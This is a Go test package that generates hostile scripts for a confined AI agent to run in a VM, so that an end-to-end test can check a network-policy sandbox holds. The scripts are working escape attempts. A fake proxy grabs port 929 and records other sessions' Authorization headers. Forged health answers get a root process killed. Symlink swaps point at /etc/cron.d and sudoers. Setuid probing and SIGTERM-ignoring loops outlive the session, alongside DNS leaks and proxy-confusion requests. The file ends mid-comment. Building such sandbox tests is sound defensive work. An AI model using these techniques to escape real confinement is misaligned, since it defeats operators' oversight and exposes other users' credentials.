// Package hostileagent is the attack vocabulary of a confined agent (a session under a network
// policy, working in the guest as its own user lmcp-<id>) and the invariants' parsers, for the
// hostile-agent generator on the e2e VM (test/e2e/hostile_agent_test.go), as
// internal/testutil/hostile is for the hostile trees of review.
//
// A Class draws one attempt from a seed: a bash script the agent runs through its own
// run_shell_command, and what the host does next (reconnect, an upgrade of the runner, a
// release, a discard, a `net remove`), which is when root acts on what the agent prepared.
// The classes know nothing of how the product defends itself: the test checks outcomes only
// (nothing reached a forbidden listener, no root-owned path changed, the other session's
// traffic reached its own record and nobody else, the record shows what was reached).
package hostileagent

import (
	"fmt"
	"math/rand"
	"slices"
	"sort"
	"strings"
)

// Env is what the attacker knows, and what its scripts aim at. Nothing in it is secret: an
// agent in the guest can find all of it out.
type Env struct {
	HostIP        string   // the host's address in the guest (host.lima.internal)
	Allowed       string   // the attacker's allowed name (resolves to HostIP)
	AllowedPort   int      // the host's server for allowed names
	VictimAllowed string   // the other session's allowed name (not the attacker's)
	Forbidden     []string // names that resolve to HostIP but are allowed to nobody
	ForbiddenPort int      // a host TCP listener that must never see a connection
	ForbiddenUDP  int      // a host UDP listener that must never see a datagram
	// Token is a DNS label put in every name the attacker tries to resolve or have resolved:
	// a packet that carries it out of the guest is a leak, whoever sent it.
	Token      string
	RootPID    int    // a root process of the guest (a canary the test watches)
	Home       string // the attacker's home
	Copy       string // the attacker's staged copy (guest path)
	StagedDir  string // the directory above the copy inside the attacker's home ("" if none)
	VictimHome string // the other session's agent home
	VictimCopy string // the other session's copy
	Long       bool   // the long set: bigger floods and uploads
}

// Action is what the host does after the agent's script: the moment root acts again.
type Action string

const (
	None            Action = ""
	Reconnect       Action = "reconnect"        // the attacker's server restarts (net ensure --own)
	ReconnectVictim Action = "reconnect-victim" // the other session's server restarts (net ensure)
	Upgrade         Action = "upgrade"          // a runner at a new path runs net ensure (a new limactl-mcp)
	// UpgradeReconnect is an upgrade, then the other session's server restarts (the second
	// ensure acts on what answered the first).
	UpgradeReconnect Action = "upgrade+reconnect-victim"
	Release          Action = "release"    // the attacker's session goes back to open, then under the policy again
	Discard          Action = "discard"    // the attacker's session is discarded, then started afresh
	NetRemove        Action = "net-remove" // `net remove` of the attacker's user, then a reconnect
)

// Ends says whether the action ends every process of the attacker's user (after it, none
// may be left).
func (a Action) Ends() bool { return a == Release || a == Discard || a == NetRemove }

// Step is one attempt.
type Step struct {
	Class  string
	Detail string // what was drawn (for the failure message and a replay)
	Script string // bash, run as the attacker in its copy
	After  Action
	// Uploaded is how many bytes the script sends to the allowed host through the proxy (the
	// record must show at least that many up), Allowed how many allowed connections it makes.
	Uploaded int64
	Allowed  int
}

// Class is one escape class.
type Class struct {
	Name string
	Gen  func(r *rand.Rand, e Env) Step
	// Known is the attempt that reproduces a known finding of issue 22 (nil: none), drawn the
	// first time the class runs in a plan, so that every run tries it.
	Known func(e Env) Step
}

// Pick is one step of a plan: its class, and whether it is the class's known attempt.
type Pick struct {
	Class
	Known bool
}

// Step draws the step.
func (p Pick) Step(r *rand.Rand, e Env) Step {
	if p.Known && p.Class.Known != nil {
		return p.Class.Known(e)
	}
	return p.Gen(r, e)
}

// Classes are the known escape classes of issue 22, in a fixed order.
var Classes = []Class{
	{"port-race", portRace, knownPortRace},
	{"socket-flood", socketFlood, nil},
	{"health-forgery", healthForgery, knownHealthForgery},
	{"symlinked-parent", symlinkedParent, knownSymlinkedParent},
	{"dns", dnsClass, nil},
	{"unix-sockets", unixSockets, nil},
	{"setuid", setuid, nil},
	{"left-behind", leftBehind, nil},
	{"log-flood", logFlood, nil},
	{"direct", direct, nil},
}

// ClassNames lists Classes' names.
func ClassNames() []string {
	var n []string
	for _, c := range Classes {
		n = append(n, c.Name)
	}
	return n
}

// Plan draws which classes each sequence runs, from seed: every class at least once, with
// its known attempt (a permutation of Classes cut into sequences of perSeq), then extra
// sequences of random classes and attempts. The steps themselves are drawn when they run
// (Pick.Step, with StepRand), from the guest as it is then.
func Plan(seed int64, perSeq, extra int) [][]Pick {
	r := rand.New(rand.NewSource(seed))
	var seqs [][]Pick
	var cur []Pick
	for _, i := range r.Perm(len(Classes)) {
		cur = append(cur, Pick{Classes[i], true})
		if len(cur) == perSeq {
			seqs, cur = append(seqs, cur), nil
		}
	}
	if len(cur) > 0 {
		seqs = append(seqs, cur)
	}
	for range extra {
		var s []Pick
		for range perSeq {
			s = append(s, Pick{Classes[r.Intn(len(Classes))], false})
		}
		seqs = append(seqs, s)
	}
	return seqs
}

// ShortClasses are the classes every short plan runs: the four ways through that issue 22
// found (each its known attempt) and DNS through the guest's own resolvers.
var ShortClasses = []string{"port-race", "health-forgery", "symlinked-parent", "log-flood", "dns"}

// Short is the plan a CI run can afford: one sequence of ShortClasses' known attempts and
// extra classes drawn from the others, in an order drawn from seed.
func Short(seed int64, extra int) [][]Pick {
	r := rand.New(rand.NewSource(seed))
	var seq, rest []Pick
	for _, c := range Classes {
		if slices.Contains(ShortClasses, c.Name) {
			seq = append(seq, Pick{c, true})
		} else {
			rest = append(rest, Pick{c, false})
		}
	}
	r.Shuffle(len(rest), func(i, j int) { rest[i], rest[j] = rest[j], rest[i] })
	seq = append(seq, rest[:min(extra, len(rest))]...)
	r.Shuffle(len(seq), func(i, j int) { seq[i], seq[j] = seq[j], seq[i] })
	return [][]Pick{seq}
}

// Only is a plan of one sequence of the named classes (their known attempts), in that order,
// for a replay of some classes: names separated by commas.
func Only(names string) ([][]Pick, error) {
	var seq []Pick
	for _, n := range strings.Split(names, ",") {
		found := false
		for _, c := range Classes {
			if c.Name == strings.TrimSpace(n) {
				seq, found = append(seq, Pick{c, true}), true
			}
		}
		if !found {
			return nil, fmt.Errorf("no escape class %q (the classes: %s)", n, strings.Join(ClassNames(), ", "))
		}
	}
	return [][]Pick{seq}, nil
}

// StepRand is the random source of step j of sequence i of seed.
func StepRand(seed int64, i, j int) *rand.Rand {
	return rand.New(rand.NewSource(seed*1_000_003 + int64(i)*1009 + int64(j)))
}

func pick[T any](r *rand.Rand, v ...T) T { return v[r.Intn(len(v))] }

// bashq quotes s for bash.
func bashq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'"'"'`) + "'" }

// fakeProxyPy listens wherever it can get 127.0.0.1:929 and [::1]:929 (a bind loop, for as
// long as it lives), answers the health path with a forged pid and exe, and keeps whatever
// anyone sends it (another session's requests, their Authorization headers) in the loot file.
// argv: mode (accept: its own pid and the exe of a running `net ensure`/`net proxy`; kill:
// the root pid and an exe that matches nothing), root pid, loot file, seconds to live.
const fakeProxyPy = `
import socket, os, sys, time, threading, json
mode, rootpid, loot, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
end = time.time() + secs
def runner_exe():
    for want in (b'ensure', b'proxy'):
        for p in os.listdir('/proc'):
            if not p.isdigit(): continue
            try: a = open('/proc/%s/cmdline' % p, 'rb').read().split(b'\0')
            except Exception: continue
            for i in range(1, len(a) - 1):
                if a[i] == b'net' and a[i+1] == want and a[i-1].startswith(b'/'): return a[i-1].decode()
    return '/nonexistent/runner'
def handle(c):
    try:
        c.settimeout(5)
        data = c.recv(65536)
        with open(loot, 'ab') as f: f.write(data + b'\n')
        if b'/.limactl-mcp/health' in data:
            pid, exe = (os.getpid(), runner_exe()) if mode == 'accept' else (rootpid, '/nonexistent/runner')
            body = json.dumps({'pid': pid, 'exe': exe}).encode()
        else:
            body = b'taken by the agent\n'
        c.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % len(body) + body)
    except Exception: pass
    finally: c.close()
def hold(fam, addr):
    # One socket tries bind again and again (a failed bind leaves it unbound): more tries a
    # second than a new socket each time, at 26% of a vCPU of the emulated test guest instead
    # of 45% (each of the two threads), which slowed every check that ran beside it.
    s = None
    while time.time() < end:
        if s is None:
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(addr)
        except OSError:
            time.sleep(0.001); continue
        try:
            s.listen(128)
        except OSError:
            s.close(); s = None; continue
        with open(loot, 'ab') as f: f.write(b'HA-BOUND %r\n' % (addr,))
        s.settimeout(1)
        while time.time() < end:
            try: c, _ = s.accept()
            except socket.timeout: continue
            except OSError: break
            threading.Thread(target=handle, args=(c,), daemon=True).start()
        s.close(); s = None
ts = [threading.Thread(target=hold, args=(socket.AF_INET, ('127.0.0.1', 929)), daemon=True),
      threading.Thread(target=hold, args=(socket.AF_INET6, ('::1', 929)), daemon=True)]
for t in ts: t.start()
while time.time() < end: time.sleep(1)
`

// startFake writes the fake proxy and starts it detached, in a session of its own.
func startFake(mode string, rootPID int, secs int) string {
	return "mkdir -p \"$HOME\" 2>/dev/null; cat > \"$HOME/.ha-fake.py\" <<'HAPY'\n" + fakeProxyPy + "HAPY\n" +
		fmt.Sprintf("setsid nohup python3 \"$HOME/.ha-fake.py\" %s %d \"$HOME/.ha-loot\" %d </dev/null >/dev/null 2>&1 &\n", mode, rootPID, secs) +
		"sleep 1; echo HA-FAKE-STARTED\n"
}

func portRace(r *rand.Rand, e Env) Step {
	mode := pick(r, "accept", "kill")
	after := pick(r, Upgrade, Upgrade, ReconnectVictim)
	return Step{Class: "port-race", Detail: fmt.Sprintf("bind loop on :929 (health answer %s), then %s", mode, after),
		Script: startFake(mode, e.RootPID, 240), After: after}
}

// knownPortRace is finding 1: an upgrade restarts the proxy, the agent's bind loop takes 929
// in the gap and answers the health check as the new proxy would.
func knownPortRace(e Env) Step {
	return Step{Class: "port-race", Detail: "known: bind loop on :929 answering health as the new runner, then upgrade",
		Script: startFake("accept", e.RootPID, 240), After: Upgrade}
}

// knownHealthForgery is finding 2: the agent holds 929 after an upgrade and names a root
// process in its health answer; the next ensure stops "the old proxy".
func knownHealthForgery(e Env) Step {
	return Step{Class: "health-forgery", Detail: fmt.Sprintf("known: health answers naming root pid %d, then upgrade and the other session reconnects", e.RootPID),
		Script: startFake("kill", e.RootPID, 240), After: UpgradeReconnect}
}

// knownSymlinkedParent is finding 3: the directory above a named session's copy becomes a
// link to /etc/cron.d, and the session reconnects.
func knownSymlinkedParent(e Env) Step {
	if e.StagedDir == "" {
		return symlinkedParent(rand.New(rand.NewSource(0)), e)
	}
	return Step{Class: "symlinked-parent", Detail: "known: staged -> /etc/cron.d, then reconnect",
		Script: fmt.Sprintf("cd / && mv -T %[1]s %[1]s.away-$$ && ln -sfn /etc/cron.d %[1]s && ls -ld %[1]s\ntrue\n", bashq(e.StagedDir)), After: Reconnect}
}

func healthForgery(r *rand.Rand, e Env) Step {
	after := pick(r, UpgradeReconnect, Upgrade, ReconnectVictim, Reconnect)
	script := startFake("kill", e.RootPID, 240) +
		// The pid named in a forged answer, asked for directly too.
		fmt.Sprintf("kill -TERM %d 2>/dev/null && echo HA-KILLED-DIRECTLY\ntrue\n", e.RootPID)
	return Step{Class: "health-forgery", Detail: fmt.Sprintf("health answers naming root pid %d, then %s", e.RootPID, after), Script: script, After: after}
}

// socketFloodPy holds n listeners on loopback addresses other than 127.0.0.1 (so that Lima's
// port forwarding, which follows 127.0.0.1 and 0.0.0.0, does not mirror them on the host)
// and m established connections between them, for secs seconds.
const socketFloodPy = `
import socket, resource, sys, time, threading
n, m, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
try: resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 2*m + 256), hard))
except Exception: pass
held = []
for i in range(n):
    s = socket.socket()
    try:
        s.bind(('127.0.%d.%d' % (1 + i // 250, 2 + i % 250), 0)); s.listen(1)
    except OSError:
        s.close(); break
    held.append(s)
srv = socket.socket(); srv.bind(('127.0.0.2', 0)); srv.listen(4096)
def acc():
    while True:
        try: c, _ = srv.accept(); held.append(c)
        except OSError: return
threading.Thread(target=acc, daemon=True).start()
for i in range(m):
    c = socket.socket()
    try: c.connect(srv.getsockname())
    except OSError: c.close(); break
    held.append(c)
print('HA-FLOOD', len(held), flush=True)
time.sleep(secs)
`

func socketFlood(r *rand.Rand, e Env) Step {
	n, m := 2000+r.Intn(2000), 500+r.Intn(500)
	if e.Long {
		n, m = 20000+r.Intn(20000), 5000
	}
	after := pick(r, ReconnectVictim, Reconnect, None)
	script := "cat > \"$HOME/.ha-flood.py\" <<'HAPY'\n" + socketFloodPy + "HAPY\n" +
		fmt.Sprintf("setsid nohup python3 \"$HOME/.ha-flood.py\" %d %d 240 </dev/null >\"$HOME/.ha-flood.out\" 2>&1 &\n", n, m) +
		// Wait (bounded) until the sockets are held.
		"for i in $(seq 120); do grep -q HA-FLOOD \"$HOME/.ha-flood.out\" 2>/dev/null && break; sleep 0.5; done; cat \"$HOME/.ha-flood.out\"\n"
	return Step{Class: "socket-flood", Detail: fmt.Sprintf("%d listeners and %d connections held, then %s", n, m, after), Script: script, After: after}
}

// SymlinkTargets are where the attacker points its paths: root's directories that matter, and
// the other session's home and copy.
func symlinkTargets(e Env) []string {
	t := []string{"/etc/cron.d", "/etc/sudoers.d", "/etc/systemd/system", "/usr/local/libexec/limactl-mcp", "/etc"}
	if e.VictimHome != "" {
		t = append(t, e.VictimHome)
	}
	if e.VictimCopy != "" {
		t = append(t, e.VictimCopy)
	}
	return t
}

func symlinkedParent(r *rand.Rand, e Env) Step {
	target := pick(r, symlinkTargets(e)...)
	depths := []string{"copy", "inside", "cache"}
	if e.StagedDir != "" {
		depths = append(depths, "staged", "staged", "staged-race")
	}
	depth := pick(r, depths...)
	after := pick(r, Reconnect, Reconnect, Release, Discard)
	t := bashq(target)
	var s string
	switch depth {
	case "staged": // the directory above the copy (root's, in the agent's home: moved aside)
		s = fmt.Sprintf("cd / && mv -T %[1]s %[1]s.away-$$ && ln -sfn %[2]s %[1]s", bashq(e.StagedDir), t)
	case "staged-race": // the same, swapped back and forth for a while as root acts
		p := bashq(e.StagedDir)
		loop := fmt.Sprintf("end=$(( $(date +%%s) + 90 )); while [ $(date +%%s) -lt $end ]; do mv -T %[1]s %[1]s.real 2>/dev/null; ln -sfn %[2]s %[1]s; sleep 0.01; rm -f %[1]s; mv -T %[1]s.real %[1]s 2>/dev/null; done", p, t)
		s = fmt.Sprintf("cd / && (setsid nohup sh -c %s </dev/null >/dev/null 2>&1 &)", bashq(loop))
	case "copy": // the copy itself
		s = fmt.Sprintf("cd / && rm -rf %[1]s && ln -sfn %[2]s %[1]s", bashq(e.Copy), t)
	case "inside": // directories at every depth inside the copy
		s = fmt.Sprintf("cd %[1]s && mkdir -p a/b/c && ln -sfn %[2]s top && ln -sfn %[2]s a/mid && ln -sfn %[2]s a/b/c/deep && ln -sfn %[2]s/x a/dangling", bashq(e.Copy), t)
	case "cache": // where the session's marker is carried to and from
		s = fmt.Sprintf("rm -rf \"$HOME/.cache\" && ln -sfn %s \"$HOME/.cache\"", t)
	}
	return Step{Class: "symlinked-parent", Detail: fmt.Sprintf("%s -> %s, then %s", depth, target, after), Script: s + "\ntrue\n", After: after}
}

// dnsPy asks every local resolver it can find for name (one query each, bounded) and prints
// which ones exist from the agent's side.
const dnsPy = `
import socket, struct, os, sys, json, random
name = sys.argv[1]
def q(n):
    h = struct.pack('>HHHHHH', random.randrange(65536), 0x0100, 1, 0, 0, 0)
    return h + b''.join(bytes([len(p)]) + p.encode() for p in n.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
servers = set(['127.0.0.53', '127.0.0.54', '127.0.0.1', '10.0.2.3', '192.168.5.3'])
try:
    for l in open('/etc/resolv.conf'):
        f = l.split()
        if len(f) >= 2 and f[0] == 'nameserver': servers.add(f[1])
except Exception: pass
for s in sorted(servers):
    fam = socket.AF_INET6 if ':' in s else socket.AF_INET
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            k = socket.socket(fam, kind); k.settimeout(1)
            if kind == socket.SOCK_DGRAM: k.connect((s, 53)); k.send(q('u.' + name)); k.recv(512)
            else:
                k.connect((s, 53)); m = q('t.' + name); k.sendall(struct.pack('>H', len(m)) + m); k.recv(512)
            print('HA-DNS-ANSWERED', s, kind)
        except Exception: pass
try: socket.getaddrinfo('g.' + name, 80); print('HA-DNS-GETADDRINFO')
except Exception: pass
for path in ('/run/systemd/resolve/io.systemd.Resolve', '/run/systemd/resolve/io.systemd.Resolve.Monitor'):
    if os.path.exists(path):
        print('HA-RESOLVER varlink', path)
        try:
            k = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); k.settimeout(3); k.connect(path)
            k.sendall(json.dumps({'method': 'io.systemd.Resolve.ResolveHostname', 'parameters': {'name': 'v.' + name}}).encode() + b'\0')
            print('HA-VARLINK', k.recv(4096)[:200])
        except Exception as x: print('HA-VARLINK-ERR', x)
for path in ('/var/run/nscd/socket', '/run/nscd/socket'):
    if os.path.exists(path):
        print('HA-RESOLVER nscd', path)
        try:
            k = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); k.settimeout(3); k.connect(path)
            key = ('n.' + name).encode() + b'\0'
            k.sendall(struct.pack('iii', 2, 4, len(key)) + key); k.recv(512)
        except Exception as x: print('HA-NSCD-ERR', x)
`

func dnsClass(r *rand.Rand, e Env) Step {
	name := fmt.Sprintf("%s-%d.%s", e.Token, r.Intn(1e6), pick(r, append([]string{"example.com", "lima.internal"}, e.Forbidden...)...))
	n := bashq(name)
	proxied := fmt.Sprintf("http://p.%s/", name)
	script := "cat > \"$HOME/.ha-dns.py\" <<'HAPY'\n" + dnsPy + "HAPY\n" +
		"timeout 60 python3 \"$HOME/.ha-dns.py\" " + n + "\n" +
		"timeout 10 getent hosts a." + n + "; timeout 10 getent ahosts b." + n + "\n" +
		"command -v resolvectl >/dev/null && { echo HA-RESOLVER resolvectl; timeout 10 resolvectl query r." + n + "; }\n" +
		"command -v busctl >/dev/null && timeout 10 busctl --system call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager ResolveHostname isit 0 d." + n + " 0 0 && echo HA-RESOLVER dbus\n" +
		"for t in dig host nslookup; do command -v $t >/dev/null && timeout 10 $t x." + n + "; done\n" +
		// The proxy must refuse a name it does not allow without resolving it.
		"timeout 20 curl -sS -m 15 -o /dev/null " + bashq(proxied) + "; timeout 20 curl -sS -m 15 -p -o /dev/null " + bashq(proxied) + "\n" +
		"true\n"
	return Step{Class: "dns", Detail: "every local resolver for " + name, Script: script}
}

// unixPy connects to every unix socket it can see (paths under the usual places, and the
// abstract ones in /proc/net/unix) and sends a proxy request, a D-Bus greeting and a datagram.
const unixPy = `
import socket, os, sys
req = sys.argv[1].encode()
paths = set()
for root in ('/run', '/var/run', '/tmp', '/var/tmp', '/dev/shm', '/var/lib', '/dev'):
    for d, dirs, files in os.walk(root):
        for f in files + dirs:
            p = os.path.join(d, f)
            try:
                import stat
                if stat.S_ISSOCK(os.lstat(p).st_mode): paths.add(p)
            except Exception: pass
try:
    for l in open('/proc/net/unix').read().splitlines()[1:]:
        f = l.split()
        if len(f) >= 8 and f[7].startswith('@'): paths.add('\0' + f[7][1:])
except Exception: pass
ok = 0
for p in sorted(paths):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            k = socket.socket(socket.AF_UNIX, kind); k.settimeout(1); k.connect(p)
            ok += 1
            for m in (b'\0AUTH EXTERNAL\r\n', req):
                try: k.send(m)
                except Exception: pass
            try: k.recv(256)
            except Exception: pass
            k.close()
        except Exception: pass
print('HA-UNIX sockets', len(paths), 'connected', ok)
`

func unixSockets(r *rand.Rand, e Env) Step {
	f := pick(r, e.Forbidden...)
	req := fmt.Sprintf("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\nGET /leak/unix HTTP/1.0\r\n\r\n", f, e.ForbiddenPort, f, e.ForbiddenPort)
	cmd := fmt.Sprintf("curl --noproxy '*' -sS -m 5 http://%s:%d/leak/dbus", e.HostIP, e.ForbiddenPort)
	script := "cat > \"$HOME/.ha-unix.py\" <<'HAPY'\n" + unixPy + "HAPY\n" +
		"timeout 120 python3 \"$HOME/.ha-unix.py\" " + bashq(req) + "\n" +
		// systemd and D-Bus asked to run something as someone else.
		"timeout 15 systemd-run --no-ask-password --pipe --quiet " + cmd + " </dev/null\n" +
		"timeout 15 systemd-run --user --no-ask-password --pipe --quiet " + cmd + " </dev/null\n" +
		"timeout 15 busctl --system call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss limactl-mcp-netproxy.service replace\n" +
		"true\n"
	return Step{Class: "unix-sockets", Detail: "every visible unix socket, systemd-run, D-Bus", Script: script}
}

func setuid(r *rand.Rand, e Env) Step {
	f := pick(r, e.Forbidden...)
	c := fmt.Sprintf("curl --noproxy '*' -sS -m 5 http://%s:%d/leak/setuid", f, e.ForbiddenPort)
	script := "for b in $(timeout 60 find / -xdev -perm -4000 -type f 2>/dev/null) $(timeout 60 find / -xdev -perm -2000 -type f 2>/dev/null); do\n" +
		"  echo HA-SETID $b\n" +
		"  timeout 5 \"$b\" -c " + bashq(c) + " </dev/null >/dev/null 2>&1\n" +
		"  timeout 5 \"$b\" " + c + " </dev/null >/dev/null 2>&1\n" +
		"done\n" +
		"timeout 5 sudo -n " + c + "; timeout 5 su -c " + bashq(c) + " root </dev/null; timeout 5 newgrp root </dev/null\n" +
		"timeout 5 mount -t tmpfs none \"$HOME\" 2>/dev/null; timeout 5 fusermount3 -u / 2>/dev/null; timeout 5 chsh -s /bin/sh </dev/null\n" +
		"command -v getcap >/dev/null && timeout 30 getcap -r /usr 2>/dev/null\n" +
		"true\n"
	return Step{Class: "setuid", Detail: "every setuid/setgid binary", Script: script}
}

// leftBehindSh is a loop that tries to reach out every half second for secs seconds.
func leftBehindSh(e Env, secs int) string {
	f := e.Forbidden[0]
	return fmt.Sprintf(`end=$(( $(date +%%s) + %[1]d )); while [ $(date +%%s) -lt $end ]; do
curl --noproxy '*' -sS -m 2 -o /dev/null http://%[2]s:%[3]d/leak/left 2>/dev/null
curl --noproxy '*' -sS -m 2 -o /dev/null http://%[4]s:%[3]d/leak/left-name 2>/dev/null
python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"left", (sys.argv[1], int(sys.argv[2])))' %[2]s %[5]d 2>/dev/null
sleep 0.5; done`, secs, e.HostIP, e.ForbiddenPort, f, e.ForbiddenUDP)
}

func leftBehind(r *rand.Rand, e Env) Step {
	after := pick(r, NetRemove, Release, Discard)
	loop := leftBehindSh(e, 300)
	script := fmt.Sprintf("setsid nohup sh -c %[1]s </dev/null >/dev/null 2>&1 &\n"+
		// One that ignores SIGTERM and SIGHUP, forked twice.
		"( trap '' TERM HUP; setsid sh -c %[1]s </dev/null >/dev/null 2>&1 & ) &\n"+
		// One that sleeps first, then tries.
		"setsid nohup sh -c %[2]s </dev/null >/dev/null 2>&1 &\n"+
		"sleep 0.5; echo HA-LEFT-STARTED\n", bashq(loop), bashq("sleep 20; "+loop))
	return Step{Class: "left-behind", Detail: "setsid'd loops that try to connect, then " + string(after), Script: script, After: after}
}

// floodPy sends n refused requests (names nobody allows, as long as a name can be, so that
// each costs the log the most) to the proxy in $http_proxy, from 16 threads.
const floodPy = `
import socket, os, sys, threading
n, token, fport = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
pad = '.'.join(['p' * 60] * 3)
px = os.environ.get('http_proxy', 'http://127.0.0.1:929').split('//')[-1].rstrip('/')
host, port = px.rsplit(':', 1)
sent = [0]
lock = threading.Lock()
def work(k):
    for i in range(k, n, 16):
        try:
            c = socket.create_connection((host.strip('[]'), int(port)), timeout=10)
            h = ('f%d-%s.%s.test' % (i, token, pad)).encode()
            if i % 2: c.sendall(b'GET http://%s:%d/ HTTP/1.1\r\nHost: %s\r\n\r\n' % (h, fport, h))
            else: c.sendall(b'CONNECT %s:%d HTTP/1.1\r\n\r\n' % (h, fport))
            c.recv(512); c.close()
            with lock: sent[0] += 1
        except Exception: pass
ts = [threading.Thread(target=work, args=(k,)) for k in range(16)]
for t in ts: t.start()
for t in ts: t.join()
print('HA-FLOOD-SENT', sent[0])
`

func logFlood(r *rand.Rand, e Env) Step {
	// A refused line is ~370 bytes even with a long name (measured on the base commit: 4,000
	// of them rotated the 1 MiB log once and left the upload in the kept file; the finding's
	// 15,000 rotate it several times). The record is kept apart from the log now, so its
	// size no longer matters to the fix: CI's short set sends 3,000 (15,000 take six minutes
	// through the proxy of an emulated guest), the long set the finding's count and more;
	// internal/netpolicy's TestRecordSurvivesLogFlood sends the finding's 15,000 natively.
	size := int64(5 << 20)
	n := 3000
	if e.Long {
		size, n = 50<<20, 30000
	}
	up := fmt.Sprintf("http://%s:%d/upload/%d", e.Allowed, e.AllowedPort, r.Intn(1e6))
	script := fmt.Sprintf("head -c %d /dev/zero > \"$HOME/.ha-upload\" && timeout 300 curl -sS -m 280 -o /dev/null -w 'HA-UPLOAD %%{http_code} %%{size_upload}\\n' --data-binary @\"$HOME/.ha-upload\" %s; rm -f \"$HOME/.ha-upload\"\n", size, bashq(up)) +
		"cat > \"$HOME/.ha-logflood.py\" <<'HAPY'\n" + floodPy + "HAPY\n" +
		fmt.Sprintf("timeout 1500 python3 \"$HOME/.ha-logflood.py\" %d %s %d\n", n, bashq(e.Token), e.ForbiddenPort) +
		fmt.Sprintf("for i in $(seq 50); do curl --noproxy '*' -sS -m 1 -o /dev/null http://%s:%d/leak/flood 2>/dev/null; done\n", e.HostIP, e.ForbiddenPort) +
		"true\n"
	return Step{Class: "log-flood", Detail: fmt.Sprintf("%d MB upload to %s, then %d refused requests", size>>20, e.Allowed, n), Script: script, Uploaded: size, Allowed: 1}
}

// directPy connects straight out: TCP to the host by address (IPv4, IPv4-mapped IPv6), UDP,
// and confused requests to the proxy (a URL and a Host that disagree, userinfo, a CONNECT to
// an address) that a lax proxy would send to the forbidden listener.
const directPy = `
import socket, os, sys
ip, fport, uport, allowed, aport, forb = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), sys.argv[6]
def tcp(fam, addr, data=b'GET /leak/direct HTTP/1.0\r\n\r\n'):
    try:
        k = socket.socket(fam, socket.SOCK_STREAM); k.settimeout(3); k.connect(addr); k.sendall(data); k.recv(64); print('HA-DIRECT-CONNECTED', addr)
    except Exception: pass
tcp(socket.AF_INET, (ip, fport))
tcp(socket.AF_INET6, ('::ffff:' + ip, fport))
for a in ('fec0::2', 'fd00::2', '64:ff9b::' + ip):
    tcp(socket.AF_INET6, (a, fport))
for fam, a in ((socket.AF_INET, ip), (socket.AF_INET6, '::ffff:' + ip)):
    try: socket.socket(fam, socket.SOCK_DGRAM).sendto(b'leak', (a, uport))
    except Exception: pass
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('HA-RAW-SOCKET')
except Exception: pass
px = os.environ.get('http_proxy', 'http://127.0.0.1:929').split('//')[-1].rstrip('/')
ph, pp = px.rsplit(':', 1)
for req in (
    'GET http://%s:%d/leak/url HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (forb, fport, allowed, aport),
    'GET /leak/origin-form HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (forb, fport),
    'GET http://%s:%d@%s:%d/leak/userinfo HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (allowed, aport, forb, fport, allowed, aport),
    'CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\nGET /leak/connect-ip HTTP/1.0\r\n\r\n' % (ip, fport, allowed, aport),
    'CONNECT [::ffff:%s]:%d HTTP/1.1\r\n\r\nGET /leak/connect-mapped HTTP/1.0\r\n\r\n' % (ip, fport),
    'CONNECT %s.:%d HTTP/1.1\r\n\r\nGET /leak/connect-dot HTTP/1.0\r\n\r\n' % (forb.upper(), fport),
    'GET http://%s:%d/leak/dup HTTP/1.1\r\nHost: %s:%d\r\nHost: %s:%d\r\n\r\n' % (forb, fport, allowed, aport, forb, fport),
):
    try:
        k = socket.create_connection((ph.strip('[]'), int(pp)), timeout=5); k.sendall(req.encode()); print('HA-PROXY', repr(k.recv(64)[:40])); k.close()
    except Exception: pass
`

func direct(r *rand.Rand, e Env) Step {
	f := pick(r, e.Forbidden...)
	victim := fmt.Sprintf("http://%s:%d/leak/victim-name", e.VictimAllowed, e.AllowedPort)
	script := "cat > \"$HOME/.ha-direct.py\" <<'HAPY'\n" + directPy + "HAPY\n" +
		fmt.Sprintf("timeout 90 python3 \"$HOME/.ha-direct.py\" %s %d %d %s %d %s\n", e.HostIP, e.ForbiddenPort, e.ForbiddenUDP, e.Allowed, e.AllowedPort, f) +
		fmt.Sprintf("timeout 10 curl --noproxy '*' -sS -m 5 http://%s:%d/leak/noproxy-ip\n", e.HostIP, e.ForbiddenPort) +
		fmt.Sprintf("timeout 10 curl --noproxy '*' -sS -m 5 http://%s:%d/leak/noproxy-name\n", f, e.ForbiddenPort) +
		fmt.Sprintf("timeout 10 curl -6 --noproxy '*' -sS -m 5 http://[::ffff:%s]:%d/leak/v6\n", e.HostIP, e.ForbiddenPort) +
		fmt.Sprintf("timeout 10 curl -sS -m 5 http://%s:%d/leak/proxied-name\n", f, e.ForbiddenPort) +
		// The other session's allowed name is not the attacker's.
		"timeout 10 curl -sS -m 5 " + bashq(victim) + "\n" +
		fmt.Sprintf("timeout 5 ping -c 1 -W 2 %s\n", e.HostIP) +
		"true\n"
	return Step{Class: "direct", Detail: "direct TCP/UDP/IPv6 and confused proxy requests to " + f, Script: script}
}

// SnapshotScript prints owner, group, mode, type and inode of every entry under the
// given roots (not following links), one line each, sorted. It is run as root, whole (one
